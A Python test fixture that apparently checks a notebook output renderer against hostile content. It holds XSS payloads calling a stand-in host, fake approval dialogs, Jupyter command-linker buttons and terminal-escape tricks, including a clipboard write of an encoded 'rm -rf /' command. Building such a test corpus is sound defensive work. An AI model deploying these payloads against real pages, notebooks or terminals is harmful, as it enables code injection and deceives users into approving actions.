"""Text that tries to act on whoever shows it, or to look like what it is not.

A script of the corpus sets `window[FLAG]` and asks for something of HOST, a style of it covers the
page, and a form of it imitates that of a decision: where a text is only shown, none of it happens.
"""

FLAG = "__hostile_text_has_run"
HOST = "hostile.invalid"

_RUN = f"window.{FLAG}=1;fetch('https://{HOST}/run')"
_COVER = "position:fixed;inset:0;z-index:2147483647;background:#fff"

HOSTILE = {
    "script": f"<script>{_RUN}</script>",
    "script that closes": f"</script></style></textarea></title><script>{_RUN}</script>",
    "image with a handler": f'<img src=x onerror="{_RUN}">',
    "image elsewhere": f'<img src="https://{HOST}/image.png" width=1 height=1>',
    "broken attribute": f'"\'><img src=x onerror="{_RUN}">',
    "nested tags": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "handlers of its own": f'<details open ontoggle="{_RUN}"><summary>more</summary></details>'
    f'<video autoplay onloadstart="{_RUN}"><source src=x></video>'
    f'<input autofocus onfocus="{_RUN}"><body onload="{_RUN}">',
    "frames": f'<iframe src="javascript:parent.{_RUN}"></iframe>'
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>'
    f'<object data="https://{HOST}/object"></object><embed src="https://{HOST}/embed">',
    "links": f'<a href="javascript:{_RUN}">open</a>'
    f'<a href="data:text/html,<script>{_RUN}</script>">data</a>'
    f'<a href=" java\tscript:{_RUN}">tab</a><a href="https://{HOST}/away" ping="https://{HOST}/">x</a>',
    "page": f'<base href="https://{HOST}/"><meta http-equiv=refresh content="0;url=https://{HOST}/">'
    f'<link rel=stylesheet href="https://{HOST}/style.css">',
    "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script>'
    f'<animate onbegin="{_RUN}" attributeName=x dur=1s />'
    f'<image href="https://{HOST}/svg.png" /><use href="https://{HOST}/use.svg#x" />'
    f'<a href="javascript:{_RUN}"><text y="20">click</text></a>'
    f'<foreignObject><img src=x onerror="{_RUN}"></foreignObject></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={_RUN}&gt;"></table></mtext><maction actiontype="statusline#https://{HOST}/" '
    f'href="javascript:{_RUN}">math</maction></math>',
    "markdown": f"![x](https://{HOST}/markdown.png) [open](javascript:{_RUN}) <{_RUN}>\n\n"
    f"[ref]: data:text/html,<script>{_RUN}</script>",
    "style": f'<style>*{{{_COVER};background:url("https://{HOST}/css.png")}}'
    f'[role=region] button{{display:none}}@import "https://{HOST}/import.css";</style>',
    "cover": f'<div style="{_COVER}" id="cover">nothing to see</div>',
    "approval form": f'<dialog open style="{_COVER}"><h2>Decision</h2><p>Nothing will happen.</p>'
    f'<form action="https://{HOST}/form"><button type=submit>Approve once</button>'
    "<button>Deny</button></form></dialog>",
    "clobbering": "<form name=document><input name=cookie><input name=body></form>"
    '<a id=jupyterapp></a><a id=threadbook name=canWrite href="x:y">z</a>',
    "commands of jupyter": '<button data-commandlinker-command="terminal:create-new">open</button>'
    '<p class="jp-Dialog lm-Widget" data-commandlinker-command="notebook:trust">trust</p>',
    "maths": f"$\\href{{java\tscript:{_RUN}}}{{x}} \\hr<wbr>ef{{javascript:{_RUN}}}{{y}}"
    " \\require{run} \\data{commandlinker-command=terminal:create-new}{z} \\style{top:0}{w}$",
    "frame like ours": '<iframe class="threadbook-isolated" title="Output in a frame of its own"'
    f' sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "template": "{{constructor.constructor('" + _RUN + "')()}} ${" + _RUN + "} <%= 1 %>",
    "json": '{"__proto__": {"canWrite": true}, "constructor": {"prototype": {"x": 1}}}',
    "dangerous props": '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=\\"'
    + _RUN.replace('"', "'")
    + '\\">"}, "type": "script", "props": {}}',
    "ansi colours": "\x1b[31;1mred\x1b[0m \x1b[8mhidden\x1b[0m \x1b[48;5;231;38;5;231mwhite\x1b[m",
    "ansi screen": "\x1b[2J\x1b[H\x1b[?1049h\x1b[1000D\x1b[2K$ rm -rf done\r\x1b[10A✓ approved",
    "osc": f"\x1b]0;title\x07\x1b]8;;javascript:{_RUN}\x07click\x1b]8;;\x07"
    f"\x1b]52;c;cm0gLXJmIC8=\x07\x1b]1337;File=inline=1:AAAA\x07\x9b31m\x9d0;x\x9c",
    "ansi and html": f"\x1b[31m<img src=x onerror='{_RUN}'>\x1b[0m",
    "unended": "\x1b]0;never ended \x1b[38;2;1;2 \x1bP q \x1b_",
    "bidirectional": "delete \u202egnp.elbisnopser\u202c \u2066allow\u2069 \u200frm\u200e \u061c",
    "bidirectional open": "\u202e\u2067\u2068 approve yn\u0435d",
    "invisible": "app\u200bro\u00adve\ufeff \U000e0041\U000e0042 \u2060\u180e\u3164",
    "lookalikes": "аррrоvе оnсе ⁄etc⁄passwd ‚quoted‛ ０１",  # noqa: RUF001  what it is
    "controls": "".join(map(chr, [*range(32), 127, *range(128, 160)])),
    "separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix\r\nseven\rEight",
    "combining": "Z" + "\u0351\u036b\u0343\u036a\u0302" * 200,
    "surrogates and noncharacters": "\ufffe\uffff\U0010ffff\ufffd",
    "long word": "W" * 100_000,
    "long line": "word " * 20_000,
    "many lines": "line\n" * 20_000,
    "deep brackets": "[" * 5_000 + "]" * 5_000,
    "expensive words": "a" * 5_000 + "!" + "(" * 500 + "\\" * 500,
    "row of a timeline": "✓ cell  ok  0.1 s  did:key:z6MkApprover  signed  sandbox: jail",
    "empty": "",
    "blank": " \t\u00a0\u3000 ",
}
"""Name and text. Names say what is tried, and tell tests apart."""

MARKUP = {
    "text/html": ("script", "image with a handler", "handlers of its own", "frames", "links",
                  "page", "mathml", "style", "cover", "approval form", "clobbering",
                  "commands of jupyter", "maths", "frame like ours"),
    "image/svg+xml": ("svg", "script", "cover"),
    "text/markdown": ("markdown", "script", "links", "approval form", "style"),
    "text/latex": ("script", "expensive words", "maths"),
    "application/javascript": ("script",),
    "application/json": ("json", "dangerous props"),
    "image/png": ("script", "svg"),
    "application/vnd.jupyter.widget-view+json": ("json",),
    "application/pdf": ("script",),
}  # fmt: skip
"""Which texts are shown as what they are, by media type; a script is one where it is no markup."""


def hostile_outputs():
    """Return nbformat outputs with the corpus in every place that an output has for text."""
    outputs = [
        {"output_type": "stream", "name": name, "text": text}
        for name in ("stdout", "stderr")
        for text in HOSTILE.values()
    ]
    for media_type, names in MARKUP.items():
        for name in names:
            source = _RUN if media_type == "application/javascript" else HOSTILE[name]
            outputs += [
                {"output_type": "display_data", "data": {media_type: source}, "metadata": {}},
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "data": {media_type: source, "text/plain": HOSTILE[name]},
                    "metadata": {media_type: {"isolated": True, "width": HOSTILE["cover"]}},
                },
            ]
    outputs += [
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
        for text in HOSTILE.values()
    ]
    return outputs
